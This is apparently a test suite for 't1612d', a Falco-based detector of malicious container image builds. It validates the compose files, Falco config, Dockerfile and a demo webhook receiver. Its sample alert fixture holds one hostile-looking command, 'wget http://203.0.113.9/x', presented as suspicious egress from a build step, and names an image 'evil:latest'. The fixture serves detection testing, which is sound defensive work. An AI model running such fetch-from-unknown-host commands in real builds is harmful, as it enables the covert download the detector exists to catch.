/**
 * The container deployment, checked without a Docker engine: both compose files, the Falco
 * config snippets they mount, the Dockerfile and .dockerignore are parsed and held to the
 * facts that make the stack work (pinned images, the shared gRPC socket, the http_output URL
 * matching t1612d's port, mounted rules that exist, t1612d's environment passing the real
 * config parser). The demo webhook receiver is started for real and fed alerts.
 */
import assert from 'node:assert/strict';
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { existsSync, readFileSync, statSync } from 'node:fs';
import { once } from 'node:events';
import { join, posix } from 'node:path';
import { parse as parseYaml } from 'yaml';
import { resolveConfig } from '../src/config.js';
import { TECHNIQUE, type Alert } from '../src/detect/alert.js';

const ROOT = join(import.meta.dirname, '..');

type Yaml = Record<string, unknown>;

function isMap(v: unknown): v is Yaml {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}

function readYaml(rel: string): Yaml {
  const doc: unknown = parseYaml(readFileSync(join(ROOT, rel), 'utf8'));
  assert.ok(isMap(doc), `${rel} is a YAML mapping`);
  return doc;
}

function map(v: unknown, what: string): Yaml {
  assert.ok(isMap(v), `${what} is a mapping`);
  return v;
}

function strings(v: unknown, what: string): string[] {
  assert.ok(Array.isArray(v) && v.every((x) => typeof x === 'string'), `${what} is a list of strings`);
  return v as string[];
}

/**
 * Compose variable interpolation as `docker compose` does it for the forms these files use:
 * `${VAR}`, `${VAR:-default}`, `${VAR-default}` and `$$`. `env` stands for the shell plus .env.
 */
function interpolate(text: string, env: Record<string, string> = {}): string {
  return text.replace(/\$\$|\$\{([A-Za-z_][A-Za-z0-9_]*)(?:(:?-)([^}]*))?\}/g, (whole, name?: string, op?: string, def?: string) => {
    if (whole === '$$') return '$';
    const value = env[name ?? ''];
    if (op === ':-') return value === undefined || value === '' ? (def ?? '') : value;
    if (op === '-') return value === undefined ? (def ?? '') : value;
    return value ?? '';
  });
}

interface Mount {
  source: string;
  target: string;
  readOnly: boolean;
  /** A named volume rather than a host path. */
  named: boolean;
}

/** Short volume syntax `SOURCE:TARGET[:MODE]`. */
function mounts(service: Yaml): Mount[] {
  return strings(service['volumes'] ?? [], 'volumes').map((spec) => {
    const [source = '', target = '', mode = ''] = spec.split(':');
    return { source, target, readOnly: mode.split(',').includes('ro'), named: !/^[./~]/.test(source) };
  });
}

function mountAt(service: Yaml, target: string): Mount | undefined {
  return mounts(service).find((m) => m.target === target);
}

function environment(service: Yaml, env: Record<string, string> = {}): Record<string, string> {
  const raw = map(service['environment'], 'environment');
  const out: Record<string, string> = {};
  for (const [k, v] of Object.entries(raw)) out[k] = interpolate(v === null ? '' : String(v), env);
  return out;
}

/** `host:port` -> port; `[::]:2802` too. */
function portOf(address: string): number {
  const m = /:(\d+)$/.exec(address);
  assert.ok(m, `${address} has a port`);
  return Number(m[1]);
}

/** Semver-ish tag -> [major, minor, patch]; undefined when it is not a release tag. */
function releaseOf(tag: string): [number, number, number] | undefined {
  const m = /^(\d+)\.(\d+)\.(\d+)(?:-[A-Za-z0-9.]+)?$/.exec(tag);
  return m ? [Number(m[1]), Number(m[2]), Number(m[3])] : undefined;
}

function splitImage(image: string): { name: string; tag: string } {
  const at = image.lastIndexOf(':');
  assert.ok(at > 0 && !image.slice(at).includes('/'), `${image} names a tag`);
  return { name: image.slice(0, at), tag: image.slice(at + 1) };
}

/** Finds keys anywhere in a YAML tree. */
function keysDeep(v: unknown, out: string[] = []): string[] {
  if (Array.isArray(v)) for (const x of v) keysDeep(x, out);
  else if (isMap(v))
    for (const [k, x] of Object.entries(v)) {
      out.push(k);
      keysDeep(x, out);
    }
  return out;
}

interface Variant {
  file: string;
  snippet: string;
  grpc: boolean;
}

const VARIANTS: Variant[] = [
  { file: 'docker-compose.yml', snippet: 'deploy/falco/t1612d-grpc.yaml', grpc: true },
  { file: 'docker-compose.falco-0.44.yml', snippet: 'deploy/falco/t1612d-http.yaml', grpc: false },
];

for (const variant of VARIANTS) {
  describe(`${variant.file} (Falco ${variant.grpc ? '<= 0.43, gRPC' : '>= 0.44, http_output'})`, () => {
    const doc = readYaml(variant.file);
    const services = map(doc['services'], 'services');
    const falco = map(services['falco'], 'falco');
    const redis = map(services['redis'], 'redis');
    const t1612d = map(services['t1612d'], 't1612d');
    const echo = map(services['webhook-echo'], 'webhook-echo');
    const falcoConfigMount = mounts(falco).find((m) => m.target.startsWith('/etc/falco/config.d/'));
    const falcoConfig = readYaml(variant.snippet);
    const t1612dEnv = environment(t1612d);

    it('defines falco, redis, t1612d and the demo receiver', () => {
      assert.deepEqual(Object.keys(services).sort(), ['falco', 'redis', 't1612d', 'webhook-echo']);
    });

    it('pins every pulled image to a release tag and builds t1612d from the Dockerfile', () => {
      for (const [name, raw] of Object.entries(services)) {
        const svc = map(raw, name);
        if (svc['build'] !== undefined) {
          assert.equal(svc['build'], '.', `${name} builds from the repository root`);
          assert.ok(existsSync(join(ROOT, 'Dockerfile')));
          continue;
        }
        assert.equal(typeof svc['image'], 'string', `${name} has an image`);
        const { tag } = splitImage(String(svc['image']));
        assert.notEqual(tag, 'latest', `${name} is not :latest`);
        assert.ok(releaseOf(tag), `${name} image tag ${tag} is a full release version`);
      }
    });

    it(`pins Falco to ${variant.grpc ? 'a 0.43.x release (the last with gRPC)' : '0.44 or later'}`, () => {
      const { name, tag } = splitImage(String(falco['image']));
      assert.equal(name, 'falcosecurity/falco');
      const release = releaseOf(tag);
      assert.ok(release);
      const [major, minor] = release;
      if (variant.grpc) assert.deepEqual([major, minor], [0, 43]);
      else assert.ok(major > 0 || minor >= 44, `${tag} >= 0.44`);
    });

    it("gives Falco the privileges and host mounts of Falco's container docs", () => {
      const caps = strings(falco['cap_add'] ?? [], 'cap_add').map((c) => c.toUpperCase());
      const privileged = falco['privileged'] === true;
      assert.ok(privileged || ['SYS_ADMIN', 'SYS_RESOURCE', 'SYS_PTRACE'].every((c) => caps.includes(c)));
      if (!privileged) assert.deepEqual(strings(falco['cap_drop'], 'cap_drop'), ['ALL']);
      assert.equal(mountAt(falco, '/host/var/run/docker.sock')?.source, '/var/run/docker.sock');
      const hostMount = { readOnly: true, named: false };
      assert.deepEqual(mountAt(falco, '/host/proc'), { source: '/proc', target: '/host/proc', ...hostMount });
      assert.deepEqual(mountAt(falco, '/host/etc'), { source: '/etc', target: '/host/etc', ...hostMount });
      assert.ok(map(falco['environment'], 'falco environment')['FALCO_HOSTNAME'], 'alerts carry a real host name');
    });

    it('mounts its Falco config snippet into config.d, read-only', () => {
      assert.ok(falcoConfigMount, 'a file is mounted into /etc/falco/config.d/');
      assert.equal(posix.normalize(falcoConfigMount.source), posix.normalize(`./${variant.snippet}`));
      assert.ok(falcoConfigMount.readOnly);
      assert.match(falcoConfigMount.target, /\.ya?ml$/);
    });

    it('runs the modern eBPF probe with JSON output and every rule evaluated', () => {
      assert.deepEqual(falcoConfig['engine'], { kind: 'modern_ebpf' });
      assert.equal(falcoConfig['json_output'], true);
      assert.equal(falcoConfig['json_include_tags_property'], true, 't1612d classifies by tags');
      assert.equal(falcoConfig['rule_matching'], 'all');
    });

    it('does not load the container plugin a second time (the image already does)', () => {
      assert.equal(falcoConfig['load_plugins'], undefined);
      assert.equal(falcoConfig['plugins'], undefined);
    });

    it('mounts falco-rules/ into Falco and lists only rules files that exist in the repository', () => {
      const rulesMount = mounts(falco).find((m) => posix.normalize(m.source) === 'falco-rules');
      assert.ok(rulesMount, 'falco-rules/ is mounted');
      assert.ok(rulesMount.readOnly);
      const listed = strings(falcoConfig['rules_files'], 'rules_files');
      assert.ok(listed.length > 0);
      for (const file of listed) {
        assert.ok(file.startsWith(`${rulesMount.target}/`), `${file} lies in the mounted falco-rules/`);
        const local = join(ROOT, 'falco-rules', file.slice(rulesMount.target.length + 1));
        assert.ok(existsSync(local) && statSync(local).isFile(), `${local} exists`);
      }
      assert.ok(listed.some((f) => f.endsWith('/t1612_rules.yaml')));
    });

    it("passes t1612d's environment through the real config parser", () => {
      const cfg = resolveConfig({ env: t1612dEnv });
      assert.equal(cfg.redisUrl, 'redis://redis:6379/0');
      assert.equal(new URL(cfg.redisUrl).hostname, 'redis', 'Redis is the compose service');
      assert.equal(cfg.httpAddress, '0.0.0.0:2802');
      assert.equal(cfg.hostname, 'docker-host');
      const webhook = new URL(cfg.webhookUrl ?? '');
      assert.equal(webhook.hostname, 'webhook-echo', 'by default alerts go to the demo receiver');
      assert.equal(Number(webhook.port), Number(environment(echo)['PORT']));
      // An operator's .env wins over the defaults.
      const prod = resolveConfig({
        env: environment(t1612d, { T1612D_WEBHOOK_URL: 'https://siem.example/hook', T1612D_LEARNING_PERIOD: '7d' }),
      });
      assert.equal(prod.webhookUrl, 'https://siem.example/hook');
      assert.equal(prod.learningPeriodMs, 7 * 86_400_000);
    });

    it('starts t1612d after a healthy Redis, restarts it, and health-checks /healthz on its port', () => {
      const deps = map(t1612d['depends_on'], 't1612d depends_on');
      assert.deepEqual(deps['redis'], { condition: 'service_healthy' });
      assert.equal(t1612d['restart'], 'unless-stopped');
      const port = portOf(t1612dEnv['T1612D_HTTP_ADDRESS'] ?? '');
      const test = strings(map(t1612d['healthcheck'], 'healthcheck')['test'], 'healthcheck.test').join(' ');
      assert.ok(test.includes(`:${port}/healthz`), test);
      const published = strings(t1612d['ports'], 'ports').map((p) => Number(p.split(':').pop()));
      assert.ok(published.includes(port), `container port ${port} is published`);
      assert.ok(mounts(t1612d).some((m) => posix.normalize(m.source) === 'falco-rules' && m.readOnly));
    });

    it('persists Redis with append-only files on a named volume and health-checks it', () => {
      const command = strings(redis['command'], 'redis command').join(' ');
      assert.match(command, /--appendonly yes/);
      const data = mountAt(redis, '/data');
      assert.ok(data?.named, 'Redis data lives on a named volume');
      assert.ok(Object.hasOwn(map(doc['volumes'], 'volumes'), data.source));
      assert.match(strings(map(redis['healthcheck'], 'healthcheck')['test'], 'test').join(' '), /redis-cli ping/);
    });

    it('has the webhook receiver only under the demo profile, running the mounted script', () => {
      assert.deepEqual(echo['profiles'], ['demo']);
      for (const name of ['falco', 'redis', 't1612d']) assert.equal(map(services[name], name)['profiles'], undefined);
      const script = mounts(echo).find((m) => m.source.endsWith('webhook-echo.mjs'));
      assert.ok(script?.readOnly);
      assert.ok(existsSync(join(ROOT, script.source)));
      assert.ok(strings(echo['command'], 'command').includes(script.target));
    });

    if (variant.grpc) {
      it('enables the gRPC server and output on a unix socket', () => {
        assert.equal(map(falcoConfig['grpc'], 'grpc')['enabled'], true);
        assert.equal(map(falcoConfig['grpc_output'], 'grpc_output')['enabled'], true);
        assert.match(String(map(falcoConfig['grpc'], 'grpc')['bind_address']), /^unix:\/\//);
      });

      it("shares the socket's directory between falco and t1612d through one named volume", () => {
        const bind = String(map(falcoConfig['grpc'], 'grpc')['bind_address']);
        assert.equal(t1612dEnv['T1612D_FALCO_GRPC_ADDRESS'], bind, 't1612d dials the address Falco binds');
        const dir = posix.dirname(bind.slice('unix://'.length));
        const inFalco = mountAt(falco, dir);
        const inT1612d = mountAt(t1612d, dir);
        assert.ok(inFalco?.named && inT1612d?.named, `${dir} is a named volume in both`);
        assert.equal(inFalco.source, inT1612d.source);
        assert.ok(Object.hasOwn(map(doc['volumes'], 'volumes'), inFalco.source));
        const others = Object.entries(services)
          .filter(([n]) => n !== 'falco' && n !== 't1612d')
          .filter(([n, s]) => mounts(map(s, n)).some((m) => m.source === inFalco.source));
        assert.deepEqual(others, [], 'no other service can reach the unauthenticated socket');
        assert.equal(resolveConfig({ env: t1612dEnv }).falcoGrpcAddress, bind);
      });

      it('lets t1612d open the root-owned socket as uid 0 without capabilities', () => {
        assert.equal(t1612d['user'], '0:0');
        assert.deepEqual(t1612d['cap_drop'], ['ALL']);
        assert.ok(strings(t1612d['security_opt'], 'security_opt').includes('no-new-privileges:true'));
        assert.equal(t1612d['read_only'], true);
        assert.deepEqual(map(t1612d['depends_on'], 'depends_on')['falco'], { condition: 'service_started' });
      });
    } else {
      it('has no gRPC keys anywhere in the Falco 0.44 config (Falco would refuse to start)', () => {
        assert.deepEqual(
          keysDeep(falcoConfig).filter((k) => k.startsWith('grpc')),
          [],
        );
      });

      it("posts Falco's alerts to t1612d's /falco on the port t1612d listens on", () => {
        const out = map(falcoConfig['http_output'], 'http_output');
        assert.equal(out['enabled'], true);
        const url = new URL(String(out['url']));
        assert.equal(url.protocol, 'http:');
        assert.equal(url.hostname, 't1612d', 'the host is the t1612d service');
        assert.ok(Object.hasOwn(services, url.hostname));
        assert.equal(Number(url.port), portOf(t1612dEnv['T1612D_HTTP_ADDRESS'] ?? ''));
        assert.equal(url.pathname, '/falco');
      });

      it('disables the gRPC source, runs t1612d as the image user, and starts Falco after it', () => {
        assert.equal(t1612dEnv['T1612D_FALCO_GRPC_ADDRESS'], '');
        assert.equal(resolveConfig({ env: t1612dEnv }).falcoGrpcAddress, '');
        assert.equal(t1612d['user'], undefined);
        assert.equal(mounts(t1612d).filter((m) => m.named).length, 0, 'no socket volume');
        assert.deepEqual(map(falco['depends_on'], 'depends_on')['t1612d'], { condition: 'service_healthy' });
      });
    }
  });
}

describe('deploy/env.example', () => {
  it('names only variables the compose files use, with values t1612d accepts', () => {
    const compose = readFileSync(join(ROOT, 'docker-compose.yml'), 'utf8');
    const assignments = readFileSync(join(ROOT, 'deploy', 'env.example'), 'utf8')
      .split(/\r?\n/)
      .map((l) => /^#?\s*([A-Z][A-Z0-9_]*)=(.*)$/.exec(l.trim()))
      .filter((m): m is RegExpExecArray => m !== null);
    assert.ok(assignments.length >= 10);
    const env: Record<string, string> = {};
    for (const [, name = '', value = ''] of assignments) {
      assert.ok(compose.includes(`\${${name}:-`), `${name} is read by docker-compose.yml`);
      env[name] = value;
    }
    const t1612d = map(map(readYaml('docker-compose.yml')['services'], 'services')['t1612d'], 't1612d');
    const cfg = resolveConfig({ env: environment(t1612d, env) });
    assert.equal(cfg.webhookUrl, env['T1612D_WEBHOOK_URL']);
    assert.equal(cfg.learningPeriodMs, 7 * 86_400_000);
    assert.equal(cfg.hostname, env['FALCO_HOSTNAME']);
  });
});

describe('the two compose files together', () => {
  it('share the project name and keep the same t1612d settings apart from the Falco source', () => {
    const a = readYaml(VARIANTS[0]?.file ?? '');
    const b = readYaml(VARIANTS[1]?.file ?? '');
    assert.equal(a['name'], b['name']);
    const envA = map(map(map(a['services'], 's')['t1612d'], 't')['environment'], 'e');
    const envB = map(map(map(b['services'], 's')['t1612d'], 't')['environment'], 'e');
    const omit = (e: Yaml): Yaml => Object.fromEntries(Object.entries(e).filter(([k]) => k !== 'T1612D_FALCO_GRPC_ADDRESS'));
    assert.deepEqual(omit(envA), omit(envB));
  });
});

interface Instruction {
  op: string;
  args: string;
}

interface Stage {
  from: string;
  name: string | undefined;
  steps: Instruction[];
}

/** Dockerfile -> stages, with continuation lines joined and `ARG` defaults before FROM applied. */
function parseDockerfile(text: string): Stage[] {
  const lines = text
    .replace(/\\\r?\n/g, ' ')
    .split(/\r?\n/)
    .map((l) => l.trim())
    .filter((l) => l !== '' && !l.startsWith('#'));
  const globalArgs: Record<string, string> = {};
  const stages: Stage[] = [];
  for (const line of lines) {
    const m = /^(\S+)\s+(.*)$/.exec(line);
    assert.ok(m, `instruction: ${line}`);
    const op = (m[1] ?? '').toUpperCase();
    const args = m[2] ?? '';
    if (op === 'FROM') {
      const f = /^(?:--platform=\S+\s+)?(\S+)(?:\s+AS\s+(\S+))?$/i.exec(args);
      assert.ok(f, `FROM ${args}`);
      const from = (f[1] ?? '').replace(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g, (_w, n: string) => globalArgs[n] ?? '');
      stages.push({ from, name: f[2], steps: [] });
    } else if (stages.length === 0) {
      assert.equal(op, 'ARG', 'only ARG may precede the first FROM');
      const [k = '', v = ''] = args.split('=');
      globalArgs[k] = v;
    } else {
      stages.at(-1)?.steps.push({ op, args });
    }
  }
  return stages;
}

/** .dockerignore patterns as a predicate (top-level names and `*` globs, enough for ours). */
function dockerIgnored(path: string, patterns: string[]): boolean {
  const first = path.split('/')[0] ?? path;
  return patterns.some((p) => {
    const re = new RegExp(`^${p.replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '[^/]*')}$`);
    return re.test(path) || re.test(first);
  });
}

describe('Dockerfile', () => {
  const stages = parseDockerfile(readFileSync(join(ROOT, 'Dockerfile'), 'utf8'));
  const final = stages.at(-1);
  const ignore = readFileSync(join(ROOT, '.dockerignore'), 'utf8')
    .split(/\r?\n/)
    .map((l) => l.trim())
    .filter((l) => l !== '' && !l.startsWith('#'));

  it('is a multi-stage build on a pinned official Node 20 image', () => {
    assert.ok(stages.length >= 2);
    for (const s of stages) assert.match(s.from, /^node:20\.\d+\.\d+-[a-z0-9.-]+$/, `FROM ${s.from}`);
  });

  it('compiles with the full dependency set, then ships production dependencies only', () => {
    const build = stages.find((s) => s.steps.some((i) => i.op === 'RUN' && /\bnpm run build\b/.test(i.args)));
    assert.ok(build?.name, 'a named stage runs npm run build');
    const runs = build.steps.filter((i) => i.op === 'RUN').map((i) => i.args);
    const ci = runs.findIndex((r) => /\bnpm ci\b/.test(r) && !/--omit=dev/.test(r));
    assert.ok(ci >= 0 && ci < runs.findIndex((r) => /\bnpm run build\b/.test(r)), 'npm ci before npm run build');
    assert.ok(final);
    const copies = final.steps.filter((i) => i.op === 'COPY');
    const modules = copies.find((i) => /\bnode_modules\b/.test(i.args));
    const from = /--from=(\S+)/.exec(modules?.args ?? '')?.[1];
    const depsStage = stages.find((s) => s.name === from);
    assert.ok(depsStage, 'node_modules comes from another stage');
    assert.ok(depsStage.steps.some((i) => i.op === 'RUN' && /\bnpm ci\b.*--omit=dev/.test(i.args)), 'that stage runs npm ci --omit=dev');
    assert.ok(copies.some((i) => i.args.includes(`--from=${build.name}`) && /\bdist\b/.test(i.args)), 'dist/ comes from the build stage');
    assert.ok(!final.steps.some((i) => i.op === 'RUN' && /\bnpm (ci|install)\b/.test(i.args)), 'no dependency install in the final stage');
  });

  it('includes what the compiled daemon reads at run time', () => {
    assert.ok(final);
    const copied = final.steps.filter((i) => i.op === 'COPY' && !i.args.includes('--from=')).map((i) => i.args.split(/\s+/)[0]);
    for (const need of ['proto', 'falco-rules', 'bin', 'package.json']) assert.ok(copied.includes(need), `COPY ${need}`);
  });

  it('copies only files that exist and that .dockerignore lets through', () => {
    for (const stage of stages)
      for (const i of stage.steps.filter((x) => x.op === 'COPY' && !x.args.includes('--from='))) {
        const sources = i.args.split(/\s+/).filter((a) => !a.startsWith('--')).slice(0, -1);
        for (const src of sources) {
          assert.ok(existsSync(join(ROOT, src)), `${src} exists`);
          assert.ok(!dockerIgnored(src, ignore), `${src} is not in .dockerignore`);
        }
      }
    for (const heavy of ['node_modules', 'dist', '.git']) assert.ok(dockerIgnored(heavy, ignore), `${heavy} stays out of the context`);
  });

  it('runs as a non-root user under tini, health-checked on /healthz, `run` by default', () => {
    assert.ok(final);
    const last = (op: string): string | undefined => final.steps.filter((i) => i.op === op).at(-1)?.args;
    const user = last('USER');
    assert.ok(user && !/^(root|0)(:|$)/.test(user), `USER ${user}`);
    assert.match(last('HEALTHCHECK') ?? '', /\/healthz/);
    const entrypoint = JSON.parse(last('ENTRYPOINT') ?? 'null') as unknown;
    assert.ok(Array.isArray(entrypoint));
    assert.match(String(entrypoint[0]), /tini$/);
    assert.ok(entrypoint.includes('/app/bin/t1612d.js'));
    assert.deepEqual(JSON.parse(last('CMD') ?? 'null'), ['run']);
    assert.ok(final.steps.some((i) => i.op === 'RUN' && /install\b.*\btini\b/.test(i.args)), 'tini is installed');
  });
});

function sampleAlert(): Alert {
  return {
    id: '7d3f0c1e-0000-4000-8000-000000000001',
    time: '2026-01-01T00:00:00.000Z',
    severity: 'critical',
    technique: TECHNIQUE,
    environment: 'default',
    hostname: 'node-a',
    summary: 'An image build on node-a reached 203.0.113.9:443, an address this environment never contacted.',
    build: {
      session_id: 'sess-1',
      started_at: '2026-01-01T00:00:00.000Z',
      trigger: {
        rule: 'T1612 Build API Request',
        proc_name: 'dockerd',
        cmdline: 'dockerd',
        user: 'root',
        container_id: 'host',
        remote_peer: '198.51.100.7:51234',
      },
      images: ['evil:latest'],
    },
    destination: { ip: '203.0.113.9', port: 443, l4proto: 'tcp', domain: null, first_seen_at: '2026-01-01T00:00:01.000Z' },
    connection: {
      time: '2026-01-01T00:00:01.000Z',
      rule: 'T1612 Build Step Egress',
      proc_name: 'wget',
      cmdline: 'wget http://203.0.113.9/x',
      pid: 42,
      container_id: 'abc123def456',
      attribution: 'lineage',
    },
    evidence: [],
  };
}

describe('deploy/webhook-echo.mjs (the demo receiver)', function () {
  this.timeout(20_000);
  const SECRET = 'demo-secret';
  let child: ChildProcessWithoutNullStreams;
  let output = '';
  let base = '';

  async function waitForOutput(pattern: RegExp, ms = 5000): Promise<RegExpExecArray> {
    const deadline = Date.now() + ms;
    for (;;) {
      const m = pattern.exec(output);
      if (m) return m;
      if (Date.now() > deadline) throw new Error(`no ${pattern} in receiver output: ${output}`);
      await new Promise((r) => setTimeout(r, 20));
    }
  }

  before(async () => {
    child = spawn(process.execPath, [join(ROOT, 'deploy', 'webhook-echo.mjs')], {
      env: { PATH: process.env['PATH'] ?? '', PORT: '0', HOST: '127.0.0.1', WEBHOOK_SECRET: SECRET },
    });
    child.stdout.on('data', (d: Buffer) => (output += d.toString()));
    child.stderr.on('data', (d: Buffer) => (output += d.toString()));
    const m = await waitForOutput(/listening on http:\/\/127\.0\.0\.1:(\d+)\//);
    base = `http://127.0.0.1:${m[1]}`;
  });

  after(async () => {
    if (child.exitCode === null && child.signalCode === null) {
      child.kill('SIGKILL');
      await once(child, 'exit');
    }
  });

  function post(body: string, headers: Record<string, string> = {}): Promise<Response> {
    return fetch(`${base}/`, { method: 'POST', body, headers: { 'content-type': 'application/json', ...headers } });
  }

  it('prints a signed alert as a summary plus its JSON, and acknowledges it', async () => {
    const body = JSON.stringify(sampleAlert());
    const sig = `sha256=${createHmac('sha256', SECRET).update(body).digest('hex')}`;
    const res = await post(body, { 'x-t1612d-delivery': 'd-1', 'x-t1612d-signature': sig });
    assert.equal(res.status, 204);
    await waitForOutput(/"first_seen_at": "2026-01-01T00:00:01.000Z"/);
    assert.match(output, /== CRITICAL T1612 on node-a \(default\)/);
    assert.match(output, /reached {3}203\.0\.113\.9:443 via wget \[lineage\]/);
    assert.match(output, /delivery {2}d-1, signature valid/);
  });

  it('shows a redelivery once and flags a wrong signature', async () => {
    const body = JSON.stringify(sampleAlert());
    assert.equal((await post(body, { 'x-t1612d-delivery': 'd-1' })).status, 204);
    await waitForOutput(/duplicate delivery d-1/);
    const tampered = JSON.stringify({ ...sampleAlert(), severity: 'medium' });
    const sig = `sha256=${createHmac('sha256', SECRET).update(body).digest('hex')}`;
    assert.equal((await post(tampered, { 'x-t1612d-delivery': 'd-2', 'x-t1612d-signature': sig })).status, 204);
    await waitForOutput(/delivery {2}d-2, signature INVALID/);
  });

  it('rejects malformed bodies with 400 and keeps serving', async () => {
    const res = await post('{"not json');
    assert.equal(res.status, 400);
    await res.text();
    const odd = await post('[1, "x", null]', { 'x-t1612d-delivery': 'd-3' });
    assert.equal(odd.status, 204, 'valid JSON of another shape is shown, not fatal');
    await waitForOutput(/delivery {2}d-3, signature INVALID/);
    const health = await fetch(`${base}/healthz`);
    assert.equal(health.status, 200);
    assert.equal(await health.text(), 'ok\n');
    assert.equal(child.exitCode, null);
  });

  it('stops cleanly on SIGTERM', async () => {
    child.kill('SIGTERM');
    const [code] = (await once(child, 'exit')) as [number | null];
    assert.equal(code, 0);
  });
});
